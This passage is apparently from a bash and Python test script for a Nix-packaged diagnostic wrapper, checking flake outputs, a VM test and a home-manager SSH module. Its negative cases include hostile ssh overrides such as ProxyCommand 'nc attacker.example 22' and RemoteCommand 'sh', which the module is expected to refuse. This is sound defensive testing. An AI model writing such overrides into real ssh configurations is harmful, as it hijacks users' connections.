    sys.exit(f"FAIL: sops.age.keyFile is not denied: {d['failedAssertions']} {drop}")
print("sops.age.keyFile (/persist/var/lib/sops-nix/key.txt) is denied in the host drop-in")
PY

    # disabledCommands narrows the allowlist and leaves the deny list alone.
    nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario minimal \
        --arg extra '{ services.diag-wrapper.disabledCommands = [ "find" "grep" "grep-e" ]; }' >"$TMP/disabled.json" \
        || fail "evaluating disabledCommands"
    python3 - "$TMP/disabled.json" <<'PY'
import json, os, sys, tomllib
d = json.load(open(sys.argv[1]))
base = tomllib.load(open(f"{os.environ['SRC']}/policy/default.toml", "rb"))
want = sorted(set(base["command"]) - {"find", "grep", "grep-e"})
if d["failedAssertions"] or sorted(d["policy"]["command"]) != want or d["policy"]["deny"]["paths"] != base["deny"]["paths"]:
    sys.exit(f"FAIL: disabledCommands: {d['failedAssertions']} {sorted(d['policy']['command'])}")
print("disabledCommands removes find, grep, grep-e and nothing else")
PY

    # The flake's outputs, the package attributes and the VM test, with a stub nixpkgs input.
    mkdir -p "$TMP/fake-nixpkgs/nixos/tests"
    cat >"$TMP/fake-nixpkgs/nixos/tests/ssh-keys.nix" <<EOF
pkgs: {
  snakeOilPrivateKey = "/nix/store/22222222222222222222222222222222-privkey.snakeoil";
  snakeOilPublicKey = "$KEY_CI";
}
EOF
    nix_json "$SRC/nix/checks/eval-flake.nix" --argstr libPath "$LIB" --argstr fakeNixpkgs "$TMP/fake-nixpkgs" \
        >"$TMP/flake.json" 2>"$TMP/err" || fail "evaluating flake.nix outputs: $(cat "$TMP/err")"
    python3 - "$TMP/flake.json" <<'PY'
import ast, json, os, re, sys
d = json.load(open(sys.argv[1]))
errors = []
def eq(label, got, want):
    if got != want:
        errors.append(f"{label}: got {got!r}, want {want!r}")
src = os.environ["SRC"]
eq("outputs", d["outputNames"], ["checks", "homeManagerModules", "homeModules", "nixosModules", "overlays", "packages"])
eq("inputs", d["inputs"], ["nixpkgs"])
if not re.fullmatch(r"github:NixOS/nixpkgs/nixos-[0-9]{2}\.(05|11)", d["nixpkgsUrl"]):
    errors.append(f"nixpkgs input is not a stable release branch: {d['nixpkgsUrl']}")
eq("packages", d["packages"], ["default", "diag-wrapper"])
eq("checks", d["checks"], ["package", "vm"])
eq("nixosModules.default", d["nixosModules"]["default"], f"{src}/nix/module.nix")
eq("homeModules.default", d["homeModules"]["default"], f"{src}/nix/home-manager.nix")
eq("homeManagerModules = homeModules", d["homeManagerModules"], d["homeModules"])
version = re.search(r"project\(diag-wrapper VERSION ([0-9.]+)", open(f"{src}/CMakeLists.txt").read()).group(1)
p = d["package"]
eq("package version", p["version"], version)
eq("package mainProgram", p["mainProgram"], "diag-wrapper")
eq("doCheck", p["doCheck"], True)
for flag in ["-DDIAG_BUILD_TESTS:BOOL=TRUE", "-DDIAG_BUILD_BENCH:BOOL=FALSE", "-DDIAG_STATIC:BOOL=FALSE",
             "-DDIAG_DEFAULT_POLICY:STRING=/etc/diag-wrapper/policy.toml"]:
    if flag not in p["cmakeFlags"]:
        errors.append(f"cmakeFlags lacks {flag}: {p['cmakeFlags']}")
eq("buildInputs", sorted(p["buildInputs"]), ["<libseccomp>", "<nlohmann_json>", "<tomlplusplus>", "<zlib>"])
if "-DDIAG_HARDEN:BOOL=TRUE" not in p["cmakeFlags"]:
    errors.append(f"DIAG_HARDEN is not on (on every platform): {p['cmakeFlags']}")
eq("checkInputs", p["checkInputs"], ["<gtest>"])
if "diag_unit_tests" not in p["checkPhase"]:
    errors.append("checkPhase does not run the unit tests")
vm = d["vm"]
eq("vm name", vm["name"], "diag-wrapper")
eq("vm nodes", vm["nodes"], ["client", "web02"])
eq("vm host assertions", vm["web02"]["failedAssertions"], [])
eq("vm host sinks", vm["web02"]["sinks"], ["journald", "file"])
try:
    ast.parse(vm["testScript"])
except SyntaxError as e:
    errors.append(f"testScript is not valid Python: {e}")
for needle in ["systemctl status sshd", "/var/lib/matrix-synapse/", "/persist/etc/ssh/", "systemctl restart sshd",
               "journalctl -t diag-wrapper", "path-denied",
               "compiled image: current: /etc/diag-wrapper/policy.toml.compiled"]:
    if needle not in vm["testScript"]:
        errors.append(f"testScript does not mention {needle!r}")
if errors:
    sys.exit("FAIL:\n  " + "\n  ".join(errors))
print(f"flake outputs, package {version} (cmake flags, inputs, doCheck) and the VM test (nodes, "
      "host assertions, testScript parses as Python) as expected")
PY
}

# ------------------------------------------------------------------------------------------------
# check_eval_home_manager VAR STYLE: VAR names the variable holding the checkout, STYLE the
# option it must exercise (settings or matchBlocks), so each copy proves the path it is for.
check_eval_home_manager() {
    need_lib
    local var=$1 style=$2
    local hm=${!var:-}
    [[ -n $hm && -e $hm ]] \
        || skip "$var is ${hm:+not a directory: }${hm:-not set}; point it at a nix-community/home-manager checkout to evaluate the client module; it is not vendored"
    [[ -f $hm/modules/programs/ssh.nix && -d $hm/modules/lib ]] \
        || fail "$var=$hm has no modules/programs/ssh.nix and modules/lib"
    export DIAG_HM_STYLE=$style
    hm=$(cd -- "$hm" && pwd)
    local star dflt n=0
    for star in false true; do
        for dflt in false true; do
            nix_json "$SRC/nix/checks/eval-home-manager.nix" --argstr libPath "$LIB" --argstr hmPath "$hm" \
                --arg withStarBlock "$star" --arg defaultConfig "$dflt" >"$TMP/hm.json" 2>"$TMP/err" \
                || fail "evaluating the home-manager module (star=$star default=$dflt): $(cat "$TMP/err")"
            python3 - "$TMP/hm.json" "$TMP/ssh_config" "$star" <<'PY'
import json, os, sys
d = json.load(open(sys.argv[1]))
text, star = d["sshConfig"], sys.argv[3] == "true"
open(sys.argv[2], "w").write(text)
lines = text.splitlines()
errors = []
head = "Host *.fleet.example web-02 web-02.example.org"
if head not in lines:
    sys.exit(f"FAIL: no '{head}' block:\n{text}")
i = lines.index(head)
block = []
for l in lines[i + 1:]:
    if not l.startswith("  ") or not l.strip():
        break
    block.append(l.strip())
if sorted(block) != sorted(["IdentitiesOnly yes", "IdentityFile ~/.ssh/id_ed25519_diag", "User diag"]):
    errors.append(f"diag block is {block}")
heads = [j for j, l in enumerate(lines) if l.startswith(("Host ", "Match "))]
if star and len(heads) < 4:
    errors.append("the user's blocks (Host *, *.example.org, corp) are missing")
if heads and heads[0] != i:
    errors.append(f"a block comes before the diag block: {lines[heads[0]]}")
ours = [w for w in d["warnings"] if "diag" in w or ("matchBlocks" in w and "deprecated" in w)]
star_warning = [w for w in ours if "the `Host *` block sets IdentityFile" in w]
if star and len(star_warning) != 1:
    errors.append(f"no warning that Host * adds its IdentityFile: {d['warnings']}")
if [w for w in ours if w not in star_warning]:
    errors.append(f"warnings caused by the module: {ours}")
if d["failedAssertions"]:
    errors.append(f"failed assertions: {d['failedAssertions']}")
if errors:
    sys.exit("FAIL:\n  " + "\n  ".join(errors) + "\n" + text)
style = "settings" if d["usesSettings"] else "matchBlocks"
if style != os.environ["DIAG_HM_STYLE"]:
    sys.exit(f"FAIL: this home-manager copy uses programs.ssh.{style}; this check is for {os.environ['DIAG_HM_STYLE']}")
print(("programs.ssh.settings" if d["usesSettings"] else "programs.ssh.matchBlocks") +
      f": diag block first, exact{' (before the user blocks Host *, *.example.org, corp)' if star else ''}")
PY
            if command -v ssh >/dev/null 2>&1; then
                python3 - "$TMP/ssh_config" "$star" <<'PY'
import subprocess, sys
cfg, star = sys.argv[1], sys.argv[2] == "true"
def G(host):
    out = subprocess.run(["ssh", "-G", "-F", cfg, host], capture_output=True, text=True, check=True).stdout
    kv = {}
    for l in out.splitlines():
        k, _, v = l.partition(" ")
        kv.setdefault(k, []).append(v)
    return kv
# The fleet hosts, including ones a user block (`*.example.org`, `corp`) also matches: the diag
# user, and the diag key offered first (a Host * IdentityFile follows it: IdentityFile adds up).
for host in ("web-02", "web-02.example.org", "db-1.fleet.example"):
    g = G(host)
    keys = g.get("identityfile", [])
    if g["user"] != ["diag"] or g["identitiesonly"] != ["yes"] or not keys or not keys[0].endswith("/.ssh/id_ed25519_diag"):
        sys.exit(f"FAIL: ssh -G {host}: user {g['user']}, identitiesonly {g['identitiesonly']}, identityfile {keys}")
    want = 2 if star else 1
    if len(keys) != want:
        sys.exit(f"FAIL: ssh -G {host}: offers {keys}, expected {want} key(s)")
if star:
    for host in ("elsewhere.example", "mail.example.org"):
        if G(host)["user"] != ["alice"]:
            sys.exit(f"FAIL: ssh -G {host}: the user's own blocks no longer apply to other hosts")
PY
            fi
            n=$((n + 1))
        done
    done
    say "$n home-manager configurations evaluated$(command -v ssh >/dev/null 2>&1 && echo ' and checked with ssh -G (User diag, IdentitiesOnly yes, the diag key first)')"

    # Written before every block, so they beat the diag block: extraOptionOverrides that decide
    # the connection are refused; includes (files nothing can read at evaluation) get a warning.
    # EXTRA-MODULE|assertion or warning|EXPECTED-SUBSTRING
    local case kind want
    for case in \
        '{ programs.ssh.extraOptionOverrides.User = "alice"; }|assertion|extraOptionOverrides sets User;' \
        '{ programs.ssh.extraOptionOverrides = { IdentityFile = "~/.ssh/id_personal"; identitiesonly = "no"; }; }|assertion|sets IdentityFile, identitiesonly;' \
        '{ programs.ssh.extraOptionOverrides.ProxyCommand = "nc attacker.example 22"; }|assertion|sets ProxyCommand;' \
        '{ programs.ssh.extraOptionOverrides.ControlPath = "~/.ssh/cm-%h"; }|assertion|sets ControlPath;' \
        '{ programs.ssh.extraOptionOverrides = { RemoteCommand = "sh"; LocalCommand = "id"; Hostname = "evil.example"; Port = "2222"; }; }|assertion|sets Hostname, LocalCommand, Port, RemoteCommand;' \
        '{ programs.ssh.extraOptionOverrides = { ControlPath = "~/.ssh/cm-%C"; ControlMaster = "auto"; ServerAliveInterval = "30"; }; }|none|' \
        '{ programs.ssh.includes = [ "~/.orbstack/ssh/config" ]; }|warning|programs.ssh.includes (~/.orbstack/ssh/config) is written before every'; do
        kind=${case#*|}; want=${kind#*|}; kind=${kind%%|*}
        nix_json "$SRC/nix/checks/eval-home-manager.nix" --argstr libPath "$LIB" --argstr hmPath "$hm" \
            --arg extra "${case%%|*}" >"$TMP/hm.json" 2>"$TMP/err" \
            || fail "evaluating the home-manager module with ${case%%|*}: $(cat "$TMP/err")"
        python3 - "$TMP/hm.json" "$kind" "$want" "${case%%|*}" <<'PY' || exit 1
import json, sys
d = json.load(open(sys.argv[1]))
kind, want, label = sys.argv[2:5]
failed = d["failedAssertions"]
warned = [w for w in d["warnings"] if "programs.diag-client" in w]
if kind == "assertion" and not any(want in m for m in failed):
    sys.exit(f"FAIL: {label}: expected an assertion containing {want!r}, got {failed}")
if kind == "warning" and (failed or not any(want in w for w in warned)):
    sys.exit(f"FAIL: {label}: expected only a warning containing {want!r}, got {failed} {warned}")
if kind == "none" and (failed or warned):
    sys.exit(f"FAIL: {label}: expected to pass, got {failed} {warned}")
print(f"{label}: {kind} {'as expected' if kind != 'none' else 'passes'}")
PY
    done
}

case $CHECK in
    parse) check_parse ;;
    eval_module) check_eval_module ;;
    eval_home_manager) check_eval_home_manager DIAG_HOME_MANAGER settings ;;
    eval_home_manager_matchblocks) check_eval_home_manager DIAG_HOME_MANAGER_MATCHBLOCKS matchBlocks ;;
    sshd_config) check_sshd_config ;;
    policy_check) check_policy_check ;;
    *) fail "usage: $0 parse|eval_module|eval_home_manager|eval_home_manager_matchblocks|sshd_config|policy_check [PATH/TO/diag-wrapper]" ;;
esac
